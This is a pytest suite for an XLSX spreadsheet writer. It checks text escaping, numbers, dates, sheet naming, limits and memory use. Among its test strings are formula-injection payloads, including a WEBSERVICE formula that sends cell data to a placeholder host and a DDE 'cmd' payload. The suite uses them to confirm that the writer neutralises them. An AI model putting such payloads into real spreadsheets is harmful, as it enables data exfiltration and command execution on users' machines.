"""Workbooks of the writer, opened by readers that know nothing of it: openpyxl, calamine, and lxml over the raw parts.

Case ids (X..) are those of docs/formats_xlsx.md. The program that writes the workbooks is
$WAYBILL_BUILD/waybill_xlsx_cases (default build/release).
"""

import datetime
import json
import os
import pathlib
import random
import re
import subprocess
import warnings
import zipfile

import lxml.etree
import openpyxl
import pytest
import python_calamine

ROOT = pathlib.Path(__file__).resolve().parents[2]
BUILD = pathlib.Path(os.environ.get("WAYBILL_BUILD", ROOT / "build" / "release"))
PROGRAM = (BUILD if BUILD.is_absolute() else ROOT / BUILD) / "waybill_xlsx_cases"
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def decode(text):
    """ST_Xstring: _xHHHH_ stands for a character."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


class Refused(Exception):
    pass


def write(path, columns, pages, **options):
    command = [str(PROGRAM), str(path)]
    for key, title, kind, width in columns:
        command += ["--column", key, title, kind, str(width)]
    for name, value in options.items():
        command += ["--" + name.replace("_", "-"), str(value)]
    done = subprocess.run(command, input=b"\n".join(pages), capture_output=True, timeout=300)
    if done.returncode == 3:
        raise Refused(done.stderr.decode())
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def page(rows):
    return json.dumps(rows, ensure_ascii=False).encode()


def one_column(path, kind, values, **options):
    """One column; `values` are JSON texts."""
    rows = b"[" + b",".join(b'{"v":' + (v if isinstance(v, bytes) else v.encode()) + b"}" for v in values) + b"]"
    return write(path, [("v", "Value", kind, 0)], [rows], **options)


class Raw:
    """The parts themselves, through lxml."""

    def __init__(self, path):
        self.zip = zipfile.ZipFile(path)
        assert self.zip.testzip() is None
        self.strings = []
        if "xl/sharedStrings.xml" in self.zip.namelist():
            for item in self.part("xl/sharedStrings.xml").findall("m:si", NS):
                self.strings.append("".join(t.text or "" for t in item.iter("{%s}t" % NS["m"])))

    def part(self, name):
        parser = lxml.etree.XMLParser(resolve_entities=False, huge_tree=True)
        return lxml.etree.fromstring(self.zip.read(name), parser)

    def cells(self, sheet=1):
        out = {}
        for cell in self.part(f"xl/worksheets/sheet{sheet}.xml").iter("{%s}c" % NS["m"]):
            kind = cell.get("t")
            value = cell.findtext("m:v", None, NS)
            if kind == "s":
                value = decode(self.strings[int(value)])
            elif kind == "inlineStr":
                value = decode("".join(t.text or "" for t in cell.iter("{%s}t" % NS["m"])))
            elif kind == "b":
                value = value == "1"
            elif value is not None:
                value = float(value)
            out[cell.get("r")] = value
        return out


def openpyxl_sheet(path, **options):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return openpyxl.load_workbook(path, **options).worksheets[0]


def calamine_rows(path, sheet=0):
    return python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(sheet).to_python(skip_empty_area=False)


def same_text(read, expected):
    """openpyxl leaves _xHHHH_ as it is but for x005F_; calamine decodes."""
    return read == expected or decode(read) == expected or read.replace("\r\n", "\n") == expected


TEXTS = [
    ("X01", '"图\\u0014图"', "图\x14图"),
    ("X03", '"test\\u000Btest"', "test\x0btest"),
    ("X04", '"_x000D_"', "_x000D_"),
    ("X04 chain", '"_x000D_x000a_"', "_x000D_x000a_"),
    ("X04 completed", '"_x0041\\u0001"', "_x0041\x01"),
    ("X06", '"_xd_ _x00G0_ _x00D_ x000D _X000D_ __"', "_xd_ _x00G0_ _x00D_ x000D _X000D_ __"),
    ("X08 raw", '"prix 😊"', "prix 😊"),
    ("X08 escaped", '"prix \\ud83d\\ude0a"', "prix 😊"),
    ("X09", '"👌🏻 👨‍👩‍👧 🇩🇪"', "👌🏻 👨‍👩‍👧 🇩🇪"),
    ("X10 high", '"a\\ud83d"', "a\ufffd"),
    ("X10 low", '"\\ude00b"', "\ufffdb"),
    ("X12", b'"a\xe9b"', "a\ufffdb"),
    ("X12 overlong", b'"\xc0\xaf"', "\ufffd\ufffd"),
    ("U+FFFE", '"a\ufffeb\uffff"', "a\ufffeb\uffff"),
    ("X14", '" a b "', " a b "),
    ("X16 one", '" "', " "),
    ("X16 three", '"   "', "   "),
    ("X16 inner", '"a  b"', "a  b"),
    ("X16 no-break", '"a\\u00A0b"', "a\u00a0b"),
    ("X17", '"a\\r\\nb"', "a\nb"),
    ("X19", '"a\\nb"', "a\nb"),
    ("X19 many", '"' + "x\\n" * 300 + '"', "x\n" * 300),
    ("X20", '"' + "x" * 40000 + '"', "x" * 32767),
    ("X22", '"' + "👍" * 20000 + '"', "👍" * 16383),
    ("X23", '"' + "a\\r\\n" * 32768 + '"', ("a\n" * 16384)[:32767]),
    ("X25", '"שלום ABC 123"', "שלום ABC 123"),
    ("X25 marks", '"\\u200Fمرحبا\\u202E"', "\u200fمرحبا\u202e"),
    ("X40", '"004"', "004"),
    ("X40 exponent", '"1E5"', "1E5"),
    ("X40 truth", '"TRUE"', "TRUE"),
    ("X40 date", '"2024-01-05"', "2024-01-05"),
    ("X40 12-3", '"12-3"', "12-3"),
    ("X41", '"20211029000000001234"', "20211029000000001234"),
    ("X73", '"a]]>b & <c>"', "a]]>b & <c>"),
    ("X88", '"https://example.org/1"', "https://example.org/1"),
    ("X88 long", '"https://example.org/' + "p" * 3000 + '"', "https://example.org/" + "p" * 3000),
    ("X109", '"=WEBSERVICE(\\"http://h.example/\\"&A1)"', '=WEBSERVICE("http://h.example/"&A1)'),
    ("X109 dde", "\"=cmd|' /C calc'!A0\"", "=cmd|' /C calc'!A0"),
    ("X110 at", '"@SUM(A1)"', "@SUM(A1)"),
    ("X110 plus", '"+1+1"', "+1+1"),
    ("X110 minus", '"-1+1"', "-1+1"),
    ("X110 percent", '"%x"', "%x"),
    ("X110 bar", '"|x"', "|x"),
    ("X112 tab", '"\\t=1+1"', "\t=1+1"),
    ("X112 CR", '"\\r=1+1"', "\n=1+1"),
    ("X112 LF", '"\\n=1+1"', "\n=1+1"),
    ("X114", '"＝1+1"', "＝1+1"),
    ("X114 at", '"＠A1"', "＠A1"),
    ("X120", "\"'=1+1\"", "'=1+1"),
    ("X120 word", "\"'tis\"", "'tis"),
    ("number", "-12.50", "-12.50"),
    ("nested", '{"a": [1, "x"]}', '{"a":[1,"x"]}'),
]
# openpyxl drops every x005F_ of a shared string, so that this text cannot be told from A and U+0001 any more.
LOST_BY_OPENPYXL = {"X04 completed"}
GUARDED = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("budget", [8 << 20, 0], ids=["shared", "inline"])
def test_texts(tmp_path, budget):
    path = tmp_path / "texts.xlsx"
    report = one_column(path, "STRING", [value for _, value, _ in TEXTS], budget=budget)
    raw = Raw(path).cells()
    sheet = openpyxl_sheet(path)
    calamine = calamine_rows(path)
    for i, (case, _, expected) in enumerate(TEXTS):
        assert raw[f"A{i + 2}"] == expected, case
        cell = sheet.cell(i + 2, 1)
        assert cell.data_type in ("s", "inlineStr"), case
        assert same_text(cell.value, expected) or case in LOST_BY_OPENPYXL, case
        assert same_text(calamine[i + 1][0], expected), case
        assert cell.quotePrefix is expected.startswith(GUARDED), case
        if expected.isascii() and expected.isdigit():
            assert cell.number_format == "@", case
        if "\n" in expected:
            assert cell.alignment.wrap_text, case
    assert report["cells_cut"] == 3
    assert report["text_repaired"] == 5
    data = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f" not in data and b"<hyperlinks" not in data and b"\r" not in data
    assert b"rightToLeft" not in data


def test_random_texts(tmp_path):
    """Pieces that matter to an escaper, in any order: lxml over the raw parts must give the text back."""
    rng = random.Random(20240115)
    pieces = ["_", "x", "_x", "000D", "_x005F_", "_x0041", "\x00", "\x01", "\x1f", "\t", "\n", "\r", "\r\n", "<", ">", "&", "]]>",
              '"', "\\", "/", " ", "  ", "=", "＝", "图", "é", "👍", "\ufffe", "\uffff", "\ufffd", "\u2028", "ﾟ", "\x7f", "a", "b" * 15,
              "c" * 31, "\ud800", "\udfff"]
    texts = ["".join(rng.choices(pieces, k=rng.randint(1, 12))) for _ in range(4000)]
    values = [json.dumps(t, ensure_ascii=rng.random() < 0.5).encode("utf-8", "surrogatepass") for t in texts]
    path = tmp_path / "random.xlsx"
    half = len(values) // 2
    pages = [b"[" + b",".join(b'{"v":' + v + b"}" for v in part) + b"]" for part in (values[:half], values[half:])]
    for budget in (8 << 20, 0):
        write(path, [("v", "Value", "STRING", 0)], pages, budget=budget)
        raw = Raw(path).cells()
        for i, (text, value) in enumerate(zip(texts, values)):
            assert raw[f"A{i + 2}"] == after_writing(text, value), (i, value)


def after_writing(text, value):
    """What a STRING becomes: whole surrogate pairs joined, halves and ill-formed bytes replaced, line ends folded."""
    lone = re.compile("[\ud800-\udfff]")
    if b"\\ud" in value.lower():
        text = text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
        text = lone.sub("\ufffd", text)
    else:
        text = lone.sub("\ufffd" * 3, text)  # raw bytes ED A0 80: three ill-formed bytes
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_numbers(tmp_path):
    path = tmp_path / "numbers.xlsx"
    decimals = [("0.0000012345", 0.0000012345), ("3.141592653589793", 3.141592653589793), ("100.0", 100.0),
                ("3.6e-260", 3.6e-260), ("1e21", 1e21), ("1.5e300", 1.5e300), ("-2.5E-7", -2.5e-7), ("-0.0", 0),
                ("-0.04", -0.04), ('"-1234.56"', -1234.56), ("-0.02", -0.02), ("1.5", 1.5),
                ('"12345678901234567890.123"', "12345678901234567890.123"),
                ('"0.1234567890123456789"', "0.1234567890123456789"), ('"NaN"', "NaN"), ('"Infinity"', "Infinity"),
                ('"-inf"', "-inf"), ('"1,5"', "1,5"), ('"1.234,56"', "1.234,56"), ('"1 000"', "1 000"), ('""', None),
                ("1e400", "1e400")]
    one_column(path, "DECIMAL", [value for value, _ in decimals])
    check_values(path, decimals)
    integers = [("1405202108700589", "1405202108700589"), ("9007199254740992", "9007199254740992"),
                ('"9007199254740993"', "9007199254740993"), ("-0", 0), ('"abc"', "abc"), ("{}", "{}"), ("1.0", 1),
                ("1.5", "1.5"), ("-1.35", "-1.35"), ("1e3", 1000), ("-5", -5), ("999999999999999", 999999999999999)]
    report = one_column(path, "INTEGER", [value for value, _ in integers])
    check_values(path, integers)
    assert report["integers_as_text"] == 3
    assert report["invalid_as_text"] == 4


def check_values(path, cases):
    sheet = openpyxl_sheet(path)
    calamine = calamine_rows(path)
    for i, (value, expected) in enumerate(cases):
        cell = sheet.cell(i + 2, 1)
        read = calamine[i + 1][0] if i + 1 < len(calamine) else ""
        if expected is None:
            assert cell.value is None and read == "", value
        else:
            assert cell.value == expected and read == expected, value
            assert (cell.data_type == "n") == (not isinstance(expected, str)), value
            if cell.data_type == "n":
                assert not cell.quotePrefix, value


def test_dates(tmp_path):
    path = tmp_path / "dates.xlsx"
    day = datetime.datetime
    dates = [("2024-02-29", day(2024, 2, 29)), ("9999-12-31", day(9999, 12, 31)), ("1900-03-01", day(1900, 3, 1)),
             ("2024-01-15", day(2024, 1, 15)), ("1900-01-01", "1900-01-01"), ("1900-02-29", "1900-02-29"),
             ("2023-02-29", "2023-02-29"), ("2024-13-01", "2024-13-01"), ("1899-12-31", "1899-12-31"),
             ("1582-10-15", "1582-10-15"), ("soon", "soon")]
    one_column(path, "DATE", [json.dumps(value) for value, _ in dates])
    sheet = openpyxl_sheet(path)
    calamine = calamine_rows(path)
    for i, (value, expected) in enumerate(dates):
        cell = sheet.cell(i + 2, 1)
        assert cell.value == expected, value
        assert cell.is_date is not isinstance(expected, str), value
        wanted = expected if isinstance(expected, str) else expected.date()
        assert calamine[i + 1][0] == wanted, value
        if cell.is_date:
            assert cell.number_format == "yyyy-mm-dd"
    times = [("2018-09-26T23:59:59.999999", day(2018, 9, 26, 23, 59, 59)), ("1905-06-01T12:00:00", day(1905, 6, 1, 12)),
             ("2013-10-05T00:00:00", day(2013, 10, 5)), ("2024-01-15", day(2024, 1, 15)),
             ("2024-01-15T06:00:00Z", day(2024, 1, 15, 14)), ("2024-01-15T06:00:00+08:00", day(2024, 1, 15, 6)),
             ("12:15:00", "12:15:00"), ("0000-00-00 00:00:00", "0000-00-00 00:00:00")]
    one_column(path, "DATETIME", [json.dumps(value) for value, _ in times], zone_seconds=8 * 3600)
    sheet = openpyxl_sheet(path)
    calamine = calamine_rows(path)
    for i, (value, expected) in enumerate(times):
        assert sheet.cell(i + 2, 1).value == expected, value
        read = calamine[i + 1][0]
        if isinstance(expected, datetime.datetime) and not isinstance(read, datetime.datetime):
            read = datetime.datetime.combine(read, datetime.time())  # calamine: midnight is a date
        assert read == expected, value


@pytest.mark.parametrize("zone", ["Pacific/Auckland", "America/New_York", "Europe/Paris"])
def test_the_process_zone_does_not_matter(tmp_path, monkeypatch, zone):  # X55, X57
    monkeypatch.setenv("TZ", zone)
    monkeypatch.setenv("LC_ALL", "de_DE.UTF-8")
    path = tmp_path / "zone.xlsx"
    one_column(path, "DATE", ['"2024-01-15"'])
    assert Raw(path).cells()["A2"] == 45306
    one_column(path, "DATETIME", ['"1905-06-01T12:00:00"'])
    assert Raw(path).cells()["A2"] == 1979.5


def test_every_second_of_a_day(tmp_path):  # X54
    path = tmp_path / "seconds.xlsx"
    start = datetime.datetime(2020, 7, 4)
    moments = [start + datetime.timedelta(seconds=s) for s in range(86400)]
    one_column(path, "DATETIME", ['"' + m.isoformat() + '"' for m in moments])
    sheet = openpyxl_sheet(path, read_only=True)
    read = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert read == moments


def test_booleans_null_and_empty(tmp_path):  # X63, X65
    path = tmp_path / "mixed.xlsx"
    columns = [("s", "S", "STRING", 0), ("i", "I", "INTEGER", 0), ("b", "B", "BOOLEAN", 0)]
    rows = [{"s": None, "i": None, "b": None}, {"s": "", "i": 0, "b": False}, {"s": None, "i": 7, "b": True}, {}, {"i": 9}]
    report = write(path, columns, [page(rows)])
    assert report["rows"] == 5
    read = [list(row) for row in openpyxl_sheet(path).iter_rows(min_row=2, values_only=True)]
    assert read == [[None, None, None], [None, 0, False], [None, 7, True], [None, None, None], [None, 9, None]]
    assert Raw(path).part("xl/worksheets/sheet1.xml").findall(".//m:row", NS)[-1].get("r") == "6"


def test_header_view_and_names(tmp_path):
    path = tmp_path / "header.xlsx"
    columns = [("a", "test\x0btest", "STRING", 300), ("b", "Name", "STRING", 255), ("c", "Name", "STRING", 0),
               ("d", "name ", "STRING", -5), ("e", "", "STRING", 1e9), ("f", "=1+1", "INTEGER", 12.5)]
    write(path, columns, [page([{"a": "test\x0btest"}])], sheet='R & D <x> "q"', title="a & <b>", created=1700000000)
    raw = Raw(path).cells()
    assert raw["A1"] == raw["A2"] == "test\x0btest"
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert book.sheetnames == ['R & D <x> "q"']
    assert book.properties.title == "a & <b>"
    assert book.properties.created == datetime.datetime(2023, 11, 14, 22, 13, 20)
    assert [c.value for c in sheet[1]][1:] == ["Name", "Name", "name ", None, "=1+1"]
    assert all(c.font.b for c in sheet[1]) and not sheet["A2"].font.b
    assert sheet["F1"].quotePrefix and sheet["F1"].data_type == "s"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F2"
    for letter, width in zip("ABCDEF", (255, 255, 16, 16, 255, 12.5)):
        assert sheet.column_dimensions[letter].width == width and sheet.column_dimensions[letter].customWidth
    assert not any(name.startswith("xl/tables") for name in Raw(path).zip.namelist())


@pytest.mark.parametrize("name, expected", [
    ("a" * 32, "a" * 31), ("Q1/2024", "Q1_2024"), ("a[b]", "a_b_"), ("x:y", "x_y"), ("what?", "what_"), ("a*b", "a_b"),
    ("c\\d", "c_d"), ("'a", "a"), ("a'", "a"), ("'", "Sheet1"), ("it's", "it's"), ("", "Sheet1"), (" ", "Sheet1"),
    ("\x07", "Sheet1"), ("History", "History_")])
def test_sheet_names(tmp_path, name, expected):  # X66, X68, X69, X74
    path = tmp_path / "name.xlsx"
    write(path, [("v", "V", "STRING", 0)], [], sheet=name)
    assert openpyxl.load_workbook(path).sheetnames == [expected]


def test_wide_sheets(tmp_path):  # X77, X78
    path = tmp_path / "wide.xlsx"
    columns = [(f"c{i}", f"c{i}", "STRING", 0) for i in range(1, 1501)]
    write(path, columns, [page([{f"c{i}": f"v{i}" for i in range(1, 1501)}])])
    sheet = openpyxl_sheet(path)
    for i in (1, 26, 27, 52, 53, 702, 703, 1500):
        assert sheet.cell(1, i).value == f"c{i}" and sheet.cell(2, i).value == f"v{i}"
    assert sheet.cell(1, 703).coordinate == "AAA1"
    with pytest.raises(Refused, match="^invalid columns"):
        write(path, [(f"{i}", "", "STRING", 0) for i in range(16385)], [])
    assert not path.exists()


def test_continuation_sheet(tmp_path):  # X75, X84
    path = tmp_path / "long.xlsx"
    total = 1048580
    pages = []
    for start in range(1, total + 1, 100000):
        pages.append(b"[" + b",".join(b'{"v":%d}' % i for i in range(start, min(start + 100000, total + 1))) + b"]")
    report = write(path, [("v", "No", "INTEGER", 0)], pages, max_rows=total)
    assert report["rows_per_sheet"] == [1048575, 5]
    book = python_calamine.CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["Sheet1", "Sheet1 (2)"]
    first = book.get_sheet_by_index(0).to_python()
    second = book.get_sheet_by_index(1).to_python()
    assert len(first) == 1048576 and first[-1] == [1048575]
    assert second == [["No"]] + [[i] for i in range(1048576, total + 1)]
    views = [Raw(path).zip.read(f"xl/worksheets/sheet{n}.xml")[:2000] for n in (1, 2)]
    assert b'tabSelected="1"' in views[0] and b"tabSelected" not in views[1]


@pytest.mark.parametrize("options", [{}, {"budget": 0}, {"compression": "small"}, {"guard": "apostrophe"}, {"refs": 0},
                                     {"max_bytes": 1 << 40}], ids=str)
def test_every_part_is_sound(tmp_path, options):
    """Well-formed, in schema order, styles in range, a ZIP that strict readers accept."""
    path = tmp_path / "sound.xlsx"
    columns = [("s", "Text", "STRING", 0), ("i", "No", "INTEGER", 0), ("d", "Day", "DATE", 0), ("b", "Flag", "BOOLEAN", 0)]
    rows = [{"s": ("=x\n", "plain", "12", "\x01 ")[i % 4], "i": i * 10 ** (i % 18), "d": "2024-01-15", "b": i % 2 == 0}
            for i in range(3000)]
    write(path, columns, [page(rows[:1500]), page(rows[1500:])], **options)
    archive = zipfile.ZipFile(path)
    formats = int(Raw(path).part("xl/styles.xml").find("m:cellXfs", NS).get("count"))
    for info in archive.infolist():
        assert not (info.compress_type == 0 and info.flag_bits & 8), info.filename
        data = archive.read(info)
        assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"'), info.filename
        checked = subprocess.run(["xmllint", "--noout", "--huge", "-"], input=data, capture_output=True)
        assert checked.returncode == 0 and checked.stderr == b"", (info.filename, checked.stderr)
    sheet = Raw(path).part("xl/worksheets/sheet1.xml")
    order = [lxml.etree.QName(child).localname for child in sheet]
    assert order == ["sheetViews", "sheetFormatPr", "cols", "sheetData", "autoFilter", "pageMargins", "ignoredErrors"]
    assert all(0 <= int(c.get("s", "0")) < formats for c in sheet.iter("{%s}c" % NS["m"]))
    mime = subprocess.run(["file", "--brief", "--mime-type", str(path)], capture_output=True, text=True)
    assert mime.stdout.strip() == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert len(calamine_rows(path)) == 3001
    assert openpyxl_sheet(path).max_row == 3001


@pytest.mark.parametrize("options", [{}, {"budget": 0}], ids=["shared", "inline"])
def test_every_code_point_of_the_bmp(tmp_path, options):
    """Each as a JSON escape and, where UTF-8 has it, as itself; sixteen in a cell."""
    path = tmp_path / "bmp.xlsx"
    points = [range(first, first + 16) for first in range(0, 0x10000, 16)]
    plain = [cell for cell in points if not 0xD800 <= cell[0] <= 0xDFFF]
    escaped = b"[" + b",".join(b'{"v":"' + b"".join(b"a\\u%04x" % c for c in cell) + b'b"}' for cell in points) + b"]"
    itself = page([{"v": "".join(f"a{chr(c)}" for c in cell) + "b"} for cell in plain])
    write(path, [("v", "V", "STRING", 0)], [escaped, itself], **options)

    def stored(c):
        return "a\ufffd" if 0xD800 <= c <= 0xDFFF else "a\n" if c == 0x0D else f"a{chr(c)}"

    expected = ["".join(map(stored, cell)) + "b" for cell in points + plain]
    cells = Raw(path).cells()
    assert [cells[f"A{i + 2}"] for i in range(len(expected))] == expected
    for read in ([row[0].value for row in openpyxl_sheet(path).iter_rows(min_row=2)],
                 [row[0] for row in calamine_rows(path)[1:]]):
        wrong = [(value, text) for value, text in zip(read, expected) if not same_text(value, text)]
        assert len(read) == len(expected) and wrong == []
    for name in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"):
        if name in zipfile.ZipFile(path).namelist():
            data = zipfile.ZipFile(path).read(name)
            checked = subprocess.run(["xmllint", "--noout", "--huge", "-"], input=data, capture_output=True)
            assert checked.returncode == 0 and checked.stderr == b"", (name, checked.stderr)


@pytest.mark.parametrize("compression", ["fast", "small"])
@pytest.mark.parametrize("refs", [1, 0])
def test_values_stay_in_their_columns(tmp_path, refs, compression):
    """Rows full of gaps, with and without references: every reader finds every value where it belongs."""
    path = tmp_path / "gaps.xlsx"
    rng = random.Random(refs)
    columns = [(f"k{i}", f"T{i}", ("STRING", "INTEGER", "BOOLEAN")[i % 3], 0) for i in range(12)]
    expected, rows = [], []
    for number in range(3000):
        values, row = [], {}
        for i in range(12):
            value = (f"t{number % 40}", number * 12 + i, number % 2 == 0)[i % 3]
            gap = rng.choice([None, None, "null", "", "absent"])
            values.append(value if gap is None else None)
            if gap != "absent":
                row[f"k{i}"] = value if gap is None else None if gap == "null" else ""
        expected.append(values)
        rows.append(row)
    write(path, columns, [page(rows[:1000]), page(rows[1000:])], refs=refs, compression=compression)
    read = [[cell.value for cell in row] for row in openpyxl_sheet(path).iter_rows(min_row=2, max_col=12)]
    assert read == expected
    read = [[None if value == "" else value for value in row] for row in calamine_rows(path)[1:]]
    assert read == expected
    done = subprocess.run([str(PROGRAM.parent / "waybill"), "xlsx", "to-json", str(path)], capture_output=True, check=True)
    lines = {line["row"]: line["cells"] for line in map(json.loads, done.stdout.splitlines())}
    read = [[*lines.get(row, []), *[None] * 12][:12] for row in range(2, 3002)]
    assert read == expected


def test_same_input_same_bytes(tmp_path):
    first, second = tmp_path / "1.xlsx", tmp_path / "2.xlsx"
    for path in (first, second):
        one_column(path, "STRING", ['"a"', '"b"', '"=c"'])
    assert first.read_bytes() == second.read_bytes()


def test_limits(tmp_path):  # X126
    path = tmp_path / "limit.xlsx"
    columns = [("v", "V", "STRING", 0)]
    pages = [page([{"v": os.urandom(20).hex()} for _ in range(10000)]) for _ in range(5)]
    with pytest.raises(Refused, match="^limit max_file_bytes"):
        write(path, columns, pages, max_bytes=1 << 20)
    assert not path.exists()
    with pytest.raises(Refused, match="^limit max_rows"):
        write(path, columns, pages, max_rows=49999)
    size = write(path, columns, pages)["bytes"]
    assert write(path, columns, pages, max_bytes=size)["bytes"] == size
    with pytest.raises(Refused, match="^limit max_file_bytes"):
        write(path, columns, pages, max_bytes=size - 1)


def test_memory_is_flat(tmp_path):  # X121, X122, X124
    columns = [("a", "A", "STRING", 0), ("b", "B", "STRING", 0)]

    def peak(rows):
        pages = []
        for start in range(0, rows, 1000):
            pages.append(b"[" + b",".join(b'{"a":"%040d","b":"x%039d"}' % (i, i) for i in range(start, start + 1000)) + b"]")
        return write(tmp_path / "flat.xlsx", columns, pages, max_rows=rows, max_bytes=1 << 40)["peak_kib"]

    small = peak(30_000)
    assert 1024 < small < 48 * 1024
    assert peak(300_000) <= small * 1.3


def test_many_very_long_texts(tmp_path):  # X124
    path = tmp_path / "texts.xlsx"
    columns = [(f"c{i}", f"c{i}", "STRING", 0) for i in range(500)]
    row = {f"c{i}": f"{i:05d}" * 6600 for i in range(500)}
    wide = write(path, columns, [page([row])])
    assert wide["cells_cut"] == 500
    assert {len(cell.value) for cell in openpyxl_sheet(path)[2]} == {32767}
    pages = [page([{"v": f"{n:06d}" * 17000} for n in range(start, start + 10)]) for start in range(0, 300, 10)]
    report = write(path, [("v", "V", "STRING", 0)], pages)
    assert report["cells_cut"] == 300
    assert report["peak_kib"] < 64 * 1024
    assert len(calamine_rows(path)[300][0]) == 32767
